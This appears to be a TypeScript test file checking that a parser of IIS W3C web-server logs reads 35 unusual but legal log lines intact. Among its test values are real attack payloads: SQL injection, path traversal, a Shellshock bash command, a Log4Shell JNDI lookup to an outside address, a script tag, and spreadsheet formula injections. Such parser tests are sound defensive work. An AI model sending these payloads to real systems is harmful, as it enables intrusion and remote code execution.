import { describe, expect, it } from 'vitest';
import { readLogBytes } from '../../helpers/log-bytes.ts';
import { readBytes } from './read-bytes.ts';

const FIELDS = 'date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken';
const TRIMMED = 'date time cs-method cs-uri-stem sc-status';
const PLAIN = { 's-ip': '10.0.0.5', 'cs-method': 'GET', 'cs-uri-stem': '/', 'cs-uri-query': '-', 's-port': '443', 'cs-username': '-', 'c-ip': '203.0.113.9', 'cs(User-Agent)': 'Mozilla/5.0+(Windows+NT+10.0)', 'cs(Referer)': '-', 'sc-status': '200', 'sc-substatus': '0', 'sc-win32-status': '0', 'time-taken': '15' };

interface Line {
  readonly what: string;
  /** What stands in the line; bytes where text cannot say it. */
  readonly values: Readonly<Record<string, string | Buffer>>;
  /** What is read, where it is not what stands there. */
  readonly read?: Readonly<Record<string, string>>;
  readonly fields?: string;
  readonly end?: string;
}

/** Lines that IIS has written, or would: legal each, and each one too much for some reader. */
const LINES: readonly Line[] = [
  { what: 'an OData key in quotes', values: { 'cs-uri-stem': "/odata/Orders('A-1')" } },
  { what: 'a double quote in a stem', values: { 'cs-uri-stem': '/a"b"c' } },
  { what: 'a tilde', values: { 'cs-uri-stem': '/~anna/aspnet~1/' } },
  { what: 'an at sign', values: { 'cs-uri-stem': '/owa/anna@example.test/' } },
  { what: 'brackets', values: { 'cs-uri-stem': '/list[0]/x[1]' } },
  { what: 'round brackets of a cookieless session', values: { 'cs-uri-stem': '/(S(abc123))/default.aspx' } },
  { what: 'a stem in UTF-8', values: { 'cs-uri-stem': '/caf\u00e9/\u65e5\u672c/\ud83d\ude00' } },
  { what: 'a stem in windows-1252', values: { 'cs-uri-stem': Buffer.from('/caf\xe9', 'latin1') }, read: { 'cs-uri-stem': '/caf\\xE9' } },
  { what: 'a semicolon and a comma', values: { 'cs-uri-stem': '/a;jsessionid=1,2' } },
  { what: 'a hash in a query', values: { 'cs-uri-query': 'a=%23&b=#frag' } },
  { what: 'a percent sign alone', values: { 'cs-uri-query': 'p=100%' } },
  { what: 'a query of 16 kB', values: { 'cs-uri-query': `x=${'a'.repeat(16_384)}` } },
  { what: 'an SQL injection', values: { 'cs-uri-query': "id=1'+OR+'1'='1';--" } },
  { what: 'a doubled question mark', values: { 'cs-uri-query': '??' } },
  { what: 'a backslash', values: { 'cs-uri-stem': '/..\\..\\windows\\win.ini' } },
  { what: 'a stem that is only a hyphen in a longer word', values: { 'cs-uri-stem': '/-', 'cs-uri-query': '--' } },
  { what: 'Shellshock', values: { 'cs(User-Agent)': '()+{+:;+};+/bin/bash+-c+"id"' } },
  { what: 'Log4Shell', values: { 'cs(User-Agent)': '${jndi:ldap://203.0.113.9/a}' } },
  { what: 'a script in a user agent', values: { 'cs(User-Agent)': '<script>alert(1)</script>' } },
  { what: 'a formula in a user agent', values: { 'cs(User-Agent)': '=HYPERLINK("http://x.test","y")' } },
  { what: 'a formula that begins with a plus', values: { 'cs(User-Agent)': '+cmd|\'/c+calc\'!A1' } },
  { what: 'a user agent of one quote', values: { 'cs(User-Agent)': '"' } },
  { what: 'a user of a domain with a space', values: { 'cs-username': 'CORP\\anna+berg' } },
  { what: 'a user by claims', values: { 'cs-username': '0#.w|corp\\anna' } },
  { what: 'a user by e-mail claim', values: { 'cs-username': 'i:0e.t|sts|anna@example.test' } },
  { what: 'a principal name with an apostrophe', values: { 'cs-username': "o'brien@example.test" } },
  { what: 'a user in windows-1252', values: { 'cs-username': Buffer.from('CORP\\Ren\xe9', 'latin1') }, read: { 'cs-username': 'CORP\\\\Ren\\xE9' } },
  { what: 'IPv6 with its zone', values: { 'c-ip': 'fe80::1c2a:3b4d%12' } },
  { what: 'IPv4 in IPv6', values: { 'c-ip': '::ffff:203.0.113.9' } },
  { what: 'RPC over HTTP', values: { 'cs-method': 'RPC_IN_DATA', 'cs-uri-stem': '/rpc/rpcproxy.dll', 'cs-uri-query': 'mail.example.test:6004' } },
  { what: 'a junk method', values: { 'cs-method': 'G\u00c4T', 'sc-status': '400' } },
  { what: 'a method of another protocol', values: { 'cs-method': '\\x16\\x03', 'sc-status': '405' } },
  { what: 'a Windows status as large as an NTSTATUS', values: { 'sc-win32-status': '2148074254', 'sc-status': '401' } },
  { what: 'a line that ends with LF alone', values: { 'cs-uri-stem': '/lf' }, end: '\n' },
  { what: 'other fields from the middle of the file on', values: { 'cs-uri-stem': '/trimmed', 'sc-status': '404' }, fields: TRIMMED },
];

function valueOf(line: Line, name: string): Buffer {
  const value = name === 'date' ? '2026-03-02' : name === 'time' ? '14:00:01' : (line.values[name] ?? PLAIN[name as keyof typeof PLAIN]);
  return Buffer.isBuffer(value) ? value : Buffer.from(value);
}

function bytesOf(line: Line): Buffer {
  const names = (line.fields ?? FIELDS).split(' ');
  return Buffer.concat([...names.flatMap((name, i) => [Buffer.from(i === 0 ? '' : ' '), valueOf(line, name)]), Buffer.from(line.end ?? '\r\n')]);
}

function wanted(line: Line): readonly (readonly [string, string])[] {
  return (line.fields ?? FIELDS).split(' ').map((name) => [name, line.read?.[name] ?? valueOf(line, name).toString('utf8')] as const);
}

describe('awkward lines', () => {
  it('are 35', () => expect(LINES).toHaveLength(35));

  // One file, each line in the company of all others, and NULs behind the last one.
  const parts = LINES.flatMap((line, i) => [...(i === 0 || line.fields !== LINES[i - 1]?.fields ? [Buffer.from(`#Fields: ${line.fields ?? FIELDS}\r\n`)] : []), bytesOf(line)]);
  const file = Buffer.concat([...parts, Buffer.alloc(5000)]);

  it('are all read, none is rejected, and the NULs behind them are padding', () => {
    const { counts } = readLogBytes('w3c-log', file);
    expect(counts).toMatchObject({ rows: 35, rejected: 0, paddingBytes: 5000 });
  });

  it.each(LINES.map((line, i) => [line.what, line, i] as const))('%s', async (_, line, i) => {
    const row = readLogBytes('w3c-log', file).rows[i];
    expect(row?.time).toBe('2026-03-02T14:00:01Z');
    expect(row?.fields).toEqual(wanted(line));
    expect(file.subarray(row?.offset, (row?.offset ?? 0) + (row?.length ?? 0))).toEqual(bytesOf(line));
  });

  it('are the same in what the workers hand over', async () => {
    const { rows } = await readBytes(file);
    expect(rows.map((r) => r.fields)).toEqual(LINES.map(wanted));
  });
});
